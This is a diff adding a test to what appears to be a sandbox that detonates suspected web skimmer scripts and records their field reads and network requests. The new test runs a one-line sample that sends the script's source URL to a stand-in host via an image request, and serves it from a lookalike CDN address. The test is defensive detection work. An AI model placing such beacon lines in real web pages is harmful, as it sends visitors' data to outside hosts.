@@ -110,6 +110,17 @@ describe('what an observation records', () => {
     expect(o.reads).toContainEqual({ field: 'payment[cc_number]', how: 'serialize' })
   })
 
+  it('serves the sample from the URL it was seen at', async () => {
+    const src = 'https://cdn.jsdelivr-cache.example/npm/slick@1.8.1/slick.min.js'
+    const o = await chamber.detonate(
+      "new Image().src = 'https://c.example/p?from=' + encodeURIComponent(document.currentScript.src)",
+      { url: src },
+    )
+    expect(o.requests.map((r) => decodeURIComponent(r.url))).toContain(
+      `https://c.example/p?from=${src}`,
+    )
+  })
+
   it('records injected elements and listeners added late', async () => {
     const css = await observe('css-url')
     expect(css.injected).toContainEqual({ tag: 'style', url: null })
